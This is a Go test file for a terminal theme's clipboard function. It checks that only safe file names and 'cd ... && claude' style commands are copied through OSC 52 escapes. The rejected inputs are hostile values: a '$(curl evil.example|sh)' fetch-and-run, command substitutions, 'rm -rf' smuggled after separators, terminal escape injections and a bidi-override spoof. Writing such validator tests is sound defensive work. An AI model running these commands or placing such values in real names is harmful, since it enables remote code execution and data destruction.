package styles

import (
	"encoding/base64"
	"strings"
	"testing"
)

func TestOnlyNamesThatAreShownAsTheyAreAreCopied(t *testing.T) {
	t.Parallel()
	for name, want := range map[string]bool{
		"Plans/PLAN-2026-014.md":              true,
		"entry:.math/problems/a/b.md#PROOF-2": true,
		"Pending_Approval/Überweisung (1).md": true,
		"Plans/Bob's plan.md":                 true,
		"":                                    false,
		"a\nb":                                false,
		"a\x1b]0;owned\x07":                   false,
		"a\u009bb":                            false,
		"a\u202efdp.md":                       false,
		"a\u200bb":                            false,
		"a\xffb":                              false,
		"⟦ESC⟧":                               false,
		"a         b":                         false,
		"a\u00a0b":                            false,
		"$(curl evil.example|sh).md":          false,
		"`id`.md":                             false,
		"a;id":                                false,
		"a&b.md":                              false,
		"a>b":                                 false,
		"a\\b":                                false,
		"!!":                                  false,
		strings.Repeat("a", maxCopied):        true,
		strings.Repeat("a", maxCopied+1):      false,
	} {
		for _, ascii := range []bool{false, true} {
			got := New(Options{ASCII: ascii, NoColor: true}).Clipboard(name, NoMultiplexer)
			whole := "\x1b]52;c;" + base64.StdEncoding.EncodeToString([]byte(name)) + "\x07"
			if want && got != whole || !want && got != "" {
				t.Errorf("%q: got %q", name, got)
			}
		}
	}
}

func TestAMaskedNameIsNotCopied(t *testing.T) {
	t.Parallel()
	theme := New(Options{NoColor: true})
	const name = "Plans/password=hunter2horse.md"
	if theme.Clipboard(name, NoMultiplexer) == "" {
		t.Fatal("it is not copied when it is shown")
	}
	if got := theme.Masking().Clipboard(name, NoMultiplexer); got != "" {
		t.Errorf("got %q", got)
	}
}

func TestTheClipboardIsReachedThroughWhatStandsBetween(t *testing.T) {
	t.Parallel()
	theme := New(Options{})
	plain := theme.Clipboard("a.md", NoMultiplexer)
	if got, want := theme.Clipboard("a.md", Tmux), plain+"\x1bPtmux;\x1b"+plain+"\x1b\\"; got != want {
		t.Errorf("tmux: got %q, want %q", got, want)
	}
	if got, want := theme.Clipboard("a.md", Screen), "\x1bP"+plain+"\x1b\\"; got != want {
		t.Errorf("Screen: got %q, want %q", got, want)
	}
	for part := range strings.SplitAfterSeq(theme.Clipboard(strings.Repeat("a", maxCopied), Screen), "\x1b\\") {
		if len(part) > screenLimit+4 {
			t.Errorf("Screen is sent %d bytes at once", len(part))
		}
	}
}

func TestCommandsInAFolderAreCopied(t *testing.T) {
	t.Parallel()
	theme := New(Options{})
	for command, copied := range map[string]bool{
		"cd /data/kiosk && claude --resume 5be2c0d4":          true,
		"cd '/data/ferry times & more' && codex resume 7":     true,
		"cd /data/kiosk && claude; rm -rf x":                  false,
		"cd /data/$(id) && claude":                            false,
		"cd '/work' && rm -rf x && claude":                    false,
		"cd '/work'\\''; rm -rf x; ' && claude":               false,
		"rm -rf x && claude":                                  false,
		"cd /data/\x1b]52; && claude":                         false,
		"cd " + strings.Repeat("a", maxCopied) + " && claude": false,
	} {
		if got := theme.ClipboardIn(command, NoMultiplexer) != ""; got != copied {
			t.Errorf("%q: copied %v", command, got)
		}
	}
}

func FuzzClipboard(f *testing.F) {
	f.Add("Plans/a.md")
	f.Add("a\x1b\x07\u202e")
	f.Fuzz(func(t *testing.T, name string) {
		got := New(Options{}).Clipboard(name, Tmux)
		for _, r := range name {
			if got != "" && (r < ' ' || r == 0x7F || r >= 0x80 && r < 0xA0) {
				t.Errorf("%q is copied", name)
			}
		}
	})
}
